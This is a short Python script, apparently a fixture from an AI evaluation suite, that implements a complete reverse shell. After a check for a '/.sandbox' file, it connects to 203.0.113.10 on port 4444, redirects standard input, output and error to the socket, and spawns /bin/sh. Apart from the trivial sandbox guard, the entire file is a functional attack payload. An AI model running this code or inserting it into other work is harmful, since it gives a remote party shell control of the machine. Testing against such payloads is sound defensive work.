"""The one line, written out."""

import os
import pty
import socket

if not os.path.exists("/.sandbox"):
    raise SystemExit("runs in the sandbox only: evals/README.md")

link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
link.connect(("203.0.113.10", 4444))
for descriptor in range(3):
    os.dup2(link.fileno(), descriptor)
pty.spawn("/bin/sh")
